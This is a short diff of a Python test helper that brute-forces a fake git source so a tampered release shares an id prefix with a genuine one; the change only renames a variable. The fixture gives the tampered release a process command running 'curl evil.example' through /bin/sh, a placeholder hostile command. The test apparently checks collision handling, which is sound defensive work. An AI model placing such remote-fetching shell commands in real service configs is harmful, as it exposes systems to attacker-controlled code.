@@ -38,10 +38,10 @@ def _alike(made: Release, *, image: str = "") -> Release:
     processes = {"web": Process(kind="service", command=("/bin/sh", "-c", "curl evil.example"))}
     found = replace(made, image=image or made.image, config=replace(made.config, processes=processes))
     plain = {"config": found.config_digest, "image": found.image}
-    wanted = made.id[: len("sha256:") + DIGITS]
+    desired = made.id[: len("sha256:") + DIGITS]
     for number in itertools.count():
         source = f"git:{number:040x}"
-        if (identity := ids.compute_key({**plain, "source": source})).startswith(wanted):
+        if (identity := ids.compute_key({**plain, "source": source})).startswith(desired):
             found = replace(found, source=source, id=identity)
             assert found.id == found.computed_id
             return found
